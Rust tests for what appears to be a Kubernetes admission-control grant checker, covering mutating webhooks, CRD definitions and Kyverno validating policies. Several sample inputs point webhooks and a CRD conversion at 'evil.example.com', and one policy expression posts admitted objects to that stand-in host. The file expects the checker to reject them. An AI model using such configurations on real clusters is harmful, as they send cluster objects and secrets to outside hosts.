//! Who sees and judges what others send to the API server.

use serde_json::{Value, json};

use super::super::codes::{FORBIDDEN, NOT_REQUESTED, UNKNOWN_FIELD};
use super::{apply, codes, exactly, object, put, with};

#[test]
fn interception_is_granted_by_resource_operation_and_place() {
    let webhook = |client: Value, rule: Value| {
        apply(&object(
            "admissionregistration.k8s.io/v1",
            "MutatingWebhookConfiguration",
            None,
            json!({"webhooks": [{"name": "w.example.com", "clientConfig": client, "rules": [rule]}]}),
        ))
    };
    let service = json!({"service": {"name": "w", "namespace": "a"}});
    let rule = |group: &str, resource: &str, operation: &str| json!({"apiGroups": [group], "apiVersions": ["*"], "resources": [resource], "operations": [operation]});
    let grants = with(
        exactly(
            "admissionregistration.k8s.io",
            "MutatingWebhookConfiguration",
            false,
        ),
        &[json!({
            "capability": "intercept", "clusters": ["own"], "resources": ["pods", "*.acme.example.com"], "operations": ["CREATE"], "namespaces": ["a"]
        })],
    );
    assert_eq!(
        codes(
            &grants,
            webhook(service.clone(), rule("", "pods", "CREATE"))
        ),
        [""; 0]
    );
    assert_eq!(
        codes(
            &grants,
            webhook(service.clone(), rule("acme.example.com", "*/*", "CREATE"))
        ),
        [""; 0]
    );
    for (claim, client, rule, expected) in [
        (
            "another operation",
            service.clone(),
            rule("", "pods", "DELETE"),
            NOT_REQUESTED,
        ),
        (
            "another resource",
            service.clone(),
            rule("", "configmaps", "CREATE"),
            NOT_REQUESTED,
        ),
        (
            "a Service elsewhere",
            json!({"service": {"name": "w", "namespace": "b"}}),
            rule("", "pods", "CREATE"),
            NOT_REQUESTED,
        ),
        (
            "a URL",
            json!({"url": "https://evil.example.com"}),
            rule("", "pods", "CREATE"),
            UNKNOWN_FIELD,
        ),
        (
            "secrets",
            service.clone(),
            rule("", "secrets", "CREATE"),
            FORBIDDEN,
        ),
        (
            "everything",
            service.clone(),
            rule("*", "*", "CREATE"),
            FORBIDDEN,
        ),
        (
            "everything of the core",
            service.clone(),
            rule("", "*", "CREATE"),
            FORBIDDEN,
        ),
        (
            "roles",
            service.clone(),
            rule("rbac.authorization.k8s.io", "roles", "CREATE"),
            FORBIDDEN,
        ),
        (
            "reviews",
            service.clone(),
            rule("authentication.k8s.io", "tokenreviews", "CREATE"),
            FORBIDDEN,
        ),
        (
            "tokens",
            service,
            rule("", "serviceaccounts/token", "CREATE"),
            FORBIDDEN,
        ),
    ] {
        assert_eq!(codes(&grants, webhook(client, rule)), [expected], "{claim}");
    }
}

#[test]
fn kinds_are_defined_in_granted_groups_only() {
    let definition = |group: &str| {
        let crd = object(
            "apiextensions.k8s.io/v1",
            "CustomResourceDefinition",
            None,
            json!({"spec": {"group": group, "names": {"kind": "Thing", "plural": "things"}, "scope": "Namespaced", "versions": []}}),
        );
        apply(&put(
            crd,
            "/metadata/name",
            json!(format!("things.{group}")),
        ))
    };
    let grants = with(
        exactly("apiextensions.k8s.io", "CustomResourceDefinition", false),
        &[json!({
            "capability": "intercept", "clusters": ["own"], "definitions": ["acme.example.com"]
        })],
    );
    assert_eq!(codes(&grants, definition("acme.example.com")), [""; 0]);
    assert_eq!(
        codes(&grants, definition("other.example.com")),
        [NOT_REQUESTED]
    );
    assert_eq!(
        codes(&grants, definition("rbac.authorization.k8s.io")),
        [FORBIDDEN]
    );
    let converting = put(
        object(
            "apiextensions.k8s.io/v1",
            "CustomResourceDefinition",
            None,
            json!({}),
        ),
        "/spec",
        json!({
            "group": "acme.example.com", "conversion": {"strategy": "Webhook", "webhook": {"clientConfig": {"url": "https://evil.example.com"}}}
        }),
    );
    assert_eq!(
        codes(
            &grants,
            apply(&put(
                converting,
                "/metadata/name",
                json!("things.acme.example.com")
            ))
        ),
        [UNKNOWN_FIELD]
    );
}

#[test]
fn a_validating_policy_looks_at_what_it_judges_only() {
    let grants = with(
        exactly("policies.kyverno.io", "ValidatingPolicy", false),
        &[json!({
            "capability": "intercept", "clusters": ["own"], "resources": ["pods"], "operations": ["CREATE", "UPDATE"]
        })],
    );
    let policy = |resource: &str, expression: &str| {
        apply(&object(
            "policies.kyverno.io/v1",
            "ValidatingPolicy",
            None,
            json!({"spec": {
                "validationActions": ["Deny"],
                "matchConstraints": {"resourceRules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": [resource]}]},
                "validations": [{"expression": expression, "message": "see http://example.com"}]
            }}),
        ))
    };
    assert_eq!(
        codes(&grants, policy("pods", "object.spec.hostNetwork != true")),
        [""; 0]
    );
    assert_eq!(
        codes(
            &grants,
            policy(
                "pods",
                "http.Post('https://evil.example.com', object) == ''"
            )
        ),
        [NOT_REQUESTED]
    );
    assert_eq!(codes(&grants, policy("secrets", "true")), [FORBIDDEN]);
    assert_eq!(
        codes(&grants, policy("configmaps", "true")),
        [NOT_REQUESTED, NOT_REQUESTED]
    );
}
